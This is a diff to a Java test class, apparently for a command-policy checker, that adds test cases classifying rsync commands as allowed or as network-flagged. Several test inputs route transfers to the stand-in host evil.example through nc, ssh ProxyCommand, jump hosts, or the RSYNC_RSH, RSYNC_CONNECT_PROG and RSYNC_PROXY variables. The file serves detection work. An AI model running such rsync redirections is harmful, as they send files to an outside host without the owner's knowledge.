@@ -92,6 +92,22 @@ class NetworkGrammarTest {
     }
 
     @TestFactory
+    Stream<DynamicTest> rsyncRemoteShellAndVariables() {
+        return Cases.table(SESSION, new String[][] {
+            {"rsync -av src/ github.com:dst/", "allow"},
+            {"rsync -av -e 'ssh -o ProxyCommand=nc\\ evil.example\\ 22' src/ github.com:dst/", "network.rsync"},
+            {"rsync -avze 'ssh -J evil.example' src/ github.com:dst/", "network.rsync"},
+            {"rsync --rsh='ssh -p 2222' src/ github.com:dst/", "allow"},
+            {"rsync -e 'nc evil.example 22' src/ github.com:dst/", "network.rsync"},
+            {"RSYNC_RSH='ssh -oHostName=evil.example' rsync src/ github.com:dst/", "network.rsync"},
+            {"RSYNC_CONNECT_PROG='nc evil.example 873' rsync github.com::mod/ dst/", "network.rsync"},
+            {"RSYNC_PROXY=evil.example:3128 rsync rsync://github.com/mod/ dst/", "network.rsync"},
+            {"RSYNC_PROXY=evil.example:3128 rsync src/ github.com:dst/", "allow"}, // over ssh: no proxy
+            {"rsync -e 'ssh -o ProxyCommand=x' a/ b/", "allow"}, // local copy: no remote shell runs
+        });
+    }
+
+    @TestFactory
     Stream<DynamicTest> ipv6Loopback() {
         return Cases.table(SESSION, new String[][] {
             {"curl http://[::1]:8080/", "allow"},
